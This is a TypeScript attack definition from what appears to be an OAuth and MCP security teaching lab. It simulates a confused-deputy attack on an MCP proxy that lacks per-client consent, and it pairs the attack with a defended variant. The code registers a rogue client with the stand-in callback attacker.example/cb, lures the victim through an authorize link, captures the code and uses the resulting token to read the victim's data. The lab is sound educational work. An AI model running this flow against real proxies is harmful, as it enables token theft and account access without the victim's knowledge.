/**
 * docs/reference §5.10 / Security Best Practices §Confused Deputy: an MCP proxy with one static
 * client_id at a third-party authorization server, open client registration, and a third-party server
 * that remembers consent. Without per-client consent at the proxy, a link from the attacker gets her a
 * token as the victim with no screen shown at all.
 */
import { challengeS256, createVerifier } from '../crypto/pkce';
import { http } from 'msw';
import { DEMO_USER } from '../servers/auth/state';
import { PROXY_CLIENT_ID } from '../servers/auth';
import { htmlPage } from '../servers/http';
import { short } from './evidence';
import { proxyHandlers } from './proxyServer';
import type { AttackDef } from './types';

const ATTACKER_CALLBACK = 'https://attacker.example/cb';

export const confusedDeputy: AttackDef = {
  id: 'confused-deputy',
  title: 'Confused deputy: an MCP proxy without per-client consent',
  summary:
    "The attacker registers a client with an MCP proxy and sends the victim a link; the third-party server remembers the victim's consent for the proxy, so nothing is shown.",
  target: 'mcp',
  rules: ['S-16', 'S-17'],
  lesson: 'rules-and-attacks',
  preconditions: [],
  defence: {
    label: 'The proxy asks the user to approve each client before going upstream',
    vulnerabilities: ['proxy-no-per-client-consent'],
  },
  victim: { scenario: 'first-connection', registration: 'dcr' },
  lanes: ['attacker'],
  needs: {
    rules: ['A-22'],
    why: "The lab's proxy gets its upstream token from a separate authorization server that names the API in it (RFC 8707), as revisions from 2025-06-18 do; 2025-03-26 only described such a proxy (its Third-Party Authorization Flow).",
  },
  hosts: (world) => [
    ...proxyHandlers(world),
    http.get(ATTACKER_CALLBACK, ({ request }) => {
      world.attacker.landed = new URL(request.url);
      if (new URL(request.url).searchParams.has('code')) world.network.annotate({ mark: 'stolen' });
      return htmlPage('Thanks', '<p>Thanks!</p>');
    }),
  ],
  async prepare(world, attacker) {
    // Precondition 3: last week the victim approved the proxy at the third-party server, which remembers.
    world.as.rememberedConsents.add(`${DEMO_USER.sub} ${PROXY_CLIENT_ID}`);
    await attacker.note(
      'Knows the setup',
      'The victim uses Files MCP Proxy, which signs users in at auth.example.com as one static client, "mcp-proxy"; auth.example.com remembers that the victim approved it.',
    );
  },
  decide: (prompt) => (prompt.clientName === 'Helpful Tool' ? 'deny' : undefined),
  explain: {
    vulnerable:
      'The third-party server saw its familiar client "mcp-proxy" and a remembered consent, so it redirected straight back; the proxy minted a code for the attacker\'s client and sent it to her. The victim never saw a screen.',
    defended:
      'S-16: the proxy found no approval by this user for "Helpful Tool" and showed its own consent page naming the client and the redirect host. The victim declined, and the attacker got access_denied.',
  },
  async act({ world, attacker, browser }) {
    const reg = await attacker.fetch(`${world.urls.proxy}/register`, {
      method: 'POST',
      step: 'attacker-request',
      mark: 'attacker',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ redirect_uris: [ATTACKER_CALLBACK], client_name: 'Helpful Tool' }),
    });
    const registered: unknown = await reg.json().catch(() => ({}));
    const clientId =
      typeof registered === 'object' && registered !== null && 'client_id' in registered
        ? String(registered.client_id)
        : '';
    const verifier = createVerifier(world.rng('attacker'));
    const link = new URL(`${world.urls.proxy}/authorize`);
    const params = {
      response_type: 'code',
      client_id: clientId,
      redirect_uri: ATTACKER_CALLBACK,
      code_challenge: await challengeS256(verifier),
      code_challenge_method: 'S256',
      state: 's',
    };
    for (const [k, v] of Object.entries(params)) link.searchParams.set(k, v);
    await attacker.note(
      'Sends the victim a link',
      'A "connect Helpful Tool" button on a web page points at the proxy\'s real authorization endpoint.',
      { values: { client_id: clientId } },
    );
    await browser.navigate(link.href, { mark: 'attacker' });
    const code = world.attacker.landed?.searchParams.get('code');
    if (!code)
      return {
        attackerWon: false,
        evidence: `No code reached the attacker (${world.attacker.landed?.searchParams.get('error') ?? 'no redirect'}).`,
      };
    const res = await attacker.token(
      { grant_type: 'authorization_code', code, code_verifier: verifier, client_id: clientId },
      `${world.urls.proxy}/token`,
    );
    const token = typeof res.body.access_token === 'string' ? res.body.access_token : null;
    const call = await attacker.callTool(token, 'fetch_report', {}, `${world.urls.proxy}/mcp`);
    return call.status === 200 && !call.isError && call.text.includes(DEMO_USER.sub)
      ? {
          attackerWon: true,
          evidence: `With a proxy token minted for "Helpful Tool", the attacker read the victim's report: ${short(call.text, 30)}`,
        }
      : { attackerWon: false, evidence: `The proxy token did not work (${call.status}).` };
  },
};
